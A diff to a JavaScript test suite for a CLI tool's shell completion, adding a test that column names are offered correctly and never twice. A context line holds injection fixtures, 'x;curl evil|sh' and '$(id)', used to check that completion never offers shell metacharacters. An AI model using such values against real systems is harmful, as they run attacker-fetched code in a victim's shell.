@@ -43,6 +43,19 @@ it('completion offers the options of a verb and of the program, and their values
   expect(offer('apply --wait ')).toEqual([])
 })
 
+it('completion offers the columns of the table of a verb, and none of them twice', () => {
+  expect(offer('minions --columns m')).toEqual(['minion'])
+  expect(offer('minions --columns minion,l')).toEqual([
+    'minion,link',
+    'minion,level',
+    'minion,last-run',
+    'minion,last-seen',
+  ])
+  expect(offer('minions --columns minion,')).not.toContain('minion,minion')
+  expect(offer('keys --columns ')).toEqual(['minion', 'key', 'fingerprint', 'since', 'by'])
+  expect(offer('apply --diff ')).toEqual(['short', 'full', 'none'])
+})
+
 it('completion never offers a value from a minion that contains shell metacharacters', () => {
   const systems = ['debian', 'x;curl evil|sh', '$(id)', 'a b', '\u001b[2J', '']
 
